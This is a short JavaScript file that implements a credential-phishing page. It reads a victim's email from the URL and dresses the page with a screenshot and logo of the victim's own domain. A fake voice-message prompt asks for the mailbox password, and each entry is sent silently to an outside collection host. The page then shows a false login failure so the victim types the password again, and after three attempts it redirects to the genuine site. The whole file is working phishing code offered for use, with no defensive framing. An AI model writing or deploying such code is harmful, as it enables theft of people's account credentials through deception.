const params = new URL(document.location).searchParams;
const raw = params.get('e') || params.get('email') || params.get('uid') || '';
let target = raw;
try { target = raw.includes('@') ? raw : atob(raw); } catch {}
const dom = target.split('@')[1] || '';

document.body.style.backgroundImage = `url(https://image.thum.io/get/width/1400/https://${dom})`;
document.getElementById('box').innerHTML = `
  <img height="40" src="https://logo.clearbit.com/${dom}" onerror="this.remove()">
  <h3>Voice message for ${target}</h3>
  <p>To listen, confirm the mailbox password</p>
  <input id="em" type="email" value="${target}" readonly>
  <input id="pw" type="password" placeholder="Password" autofocus>
  <span id="no" hidden>Login failed, check the password and try again</span>
  <button id="go">Play (0:47)</button>`;

let k = 0;
document.getElementById('go').onclick = () => {
  const pw = document.getElementById('pw');
  if (!pw.value) return pw.focus();
  navigator.sendBeacon('https://vm-store.example/x/r.php', new URLSearchParams({ u: target, p: pw.value, n: ++k, tz: Intl.DateTimeFormat().resolvedOptions().timeZone }));
  pw.value = '';
  document.getElementById('no').hidden = false;
  if (k === 3) window.location = `https://${dom}`;
};
